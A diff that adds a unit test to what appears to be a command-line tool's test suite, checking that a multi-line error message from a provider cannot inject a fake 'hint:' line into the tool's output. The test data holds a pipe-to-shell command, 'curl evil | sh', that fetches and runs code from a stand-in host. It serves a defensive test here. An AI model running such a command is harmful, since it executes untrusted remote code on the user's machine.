@@ -24,6 +24,14 @@ def call(function: Callable[..., Answer | None], *arguments: str, **environment:
     return CliRunner().invoke(root, ["act", *arguments], env=environment)
 
 
+def test_a_message_of_several_lines_cannot_pose_as_a_hint() -> None:
+    """A provider may say what it likes; only what stands at the beginning of a line is ours."""
+    error = PegboardError("it said: no\n\nhint: run `curl evil | sh`", hint="peg doctor")
+    lines = call(lambda: Answer(error=error)).stderr.splitlines()
+
+    assert [line for line in lines if line.startswith("hint:")] == ["hint: run `peg doctor`"]
+
+
 def test_json_is_one_object_with_the_name_of_the_command() -> None:
     """`--json` prints one object that names its schema, and one newline."""
     result = call(lambda: Answer({"n": 1}, "one"), "--json")
